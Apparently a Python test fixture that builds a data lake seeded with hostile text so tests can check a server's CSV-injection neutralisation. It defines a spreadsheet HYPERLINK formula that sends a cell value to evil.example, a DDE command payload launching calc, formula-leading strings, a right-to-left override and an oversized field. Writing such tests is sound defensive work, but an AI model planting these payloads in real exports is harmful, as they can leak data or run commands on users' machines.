"""A small lake holding hostile seal text (issue 33, audit items 17, 20 and 21), for the tests that
check what the server makes of it.

- `Test_hostile_text` is built as any seal is: its name, tldr, structure, method and tags are
  text a spreadsheet would run as a formula, and its tldr holds U+2028 and U+2029. The build
  publishes such free text (docs/seal.md "Text"); the CSV neutralises it.
- `Test_old_build` stands for a lake an older build wrote, before the text rules: published with
  validation switched off, its symbols and decision reasons are formulas, its `source_alpha_id`
  is 600 KB (X-Meta of each of its columnar pages) and its name holds a right-to-left override.
- The factory's benchmark, so the screener and benchmark routes answer.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from unittest import mock

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

from pipeline.publish import publish_seal
from tests.pipeline.factory import write_benchmark_seal, write_factory_seal

HOSTILE = "Test_hostile_text"
OLD_BUILD = "Test_old_build"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
NAME = HYPERLINK
TLDR = "+1+1 reads\u2028on two\u2029lines"
STRUCTURE = "-2+3"
METHOD = "@SUM(A1:A9)"
TAGS = ["=1+1", "\tTAB", "plain"]
SYMBOLS = {"S000": HYPERLINK, "S001": "@SUM(1)", "S002": "-2+3", "S003": "+1", "S004": "\t=1", "S005": "\r=1"}
"""`Test_old_build`'s factory symbols renamed, in every file."""
DECISION_REASON = "=cmd|' /C calc'!A0"
SOURCE_ALPHA_ID = "r" * 600_000
OLD_NAME = "Old \u202eevil\u202c build"
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""OWASP's list, written here again so the tests do not read the server's own."""


def _edit_json(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document))


def write_hostile_text_seal(out: Path) -> Path:
    seal = write_factory_seal(out, alpha_id=HOSTILE)
    _edit_json(seal / "manifest.json", lambda m: m.update(name=NAME, tldr=TLDR))
    _edit_json(
        seal / "description.json",
        lambda d: d.update(
            name=NAME, tldr=TLDR, classification={"structure": STRUCTURE, "method": METHOD, "tags": TAGS}
        ),
    )
    return seal


def write_old_build_seal(out: Path) -> Path:
    seal = write_factory_seal(out, alpha_id=OLD_BUILD)
    for path in seal.rglob("*.parquet"):
        table = pq.read_table(path)
        if "symbol" in table.column_names:
            index = table.schema.get_field_index("symbol")
            renamed = [SYMBOLS.get(s, s) for s in table.column("symbol").to_pylist()]
            table = table.set_column(index, table.schema.field(index), pa.array(renamed, pa.string()))
        if "decision_reason" in table.column_names:
            index = table.schema.get_field_index("decision_reason")
            reasons = pc.if_else(
                pc.is_in(table.column("symbol"), pa.array(list(SYMBOLS.values()))),
                pa.scalar(DECISION_REASON),
                table.column("decision_reason"),
            )
            table = table.set_column(index, table.schema.field(index), reasons)
        pq.write_table(table, path)
    _edit_json(seal / "manifest.json", lambda m: m.update(source_alpha_id=SOURCE_ALPHA_ID, name=OLD_NAME))
    _edit_json(seal / "description.json", lambda d: d.update(name=OLD_NAME))
    return seal


def build_hostile_lake(folder: Path) -> Path:
    """The lake (`folder/lake`) with both alphas and the benchmark."""
    lake = folder / "lake"
    seals = folder / "seals"
    for seal in (
        write_benchmark_seal(seals / "benchmark_SPY"),
        write_hostile_text_seal(seals / HOSTILE),
    ):
        assert publish_seal(str(seal), str(lake)).status == "published"
    old = write_old_build_seal(seals / OLD_BUILD)
    # An older pipeline: none of today's rules refused it.
    with mock.patch("pipeline.publish.SealCheck.refuse"):
        assert publish_seal(str(old), str(lake)).status == "published"
    return lake


def neutralised(value: str) -> str:
    """A text cell as a spreadsheet must get it (OWASP "CSV Injection")."""
    return "'" + value if value.startswith(OWASP_STARTS) else value
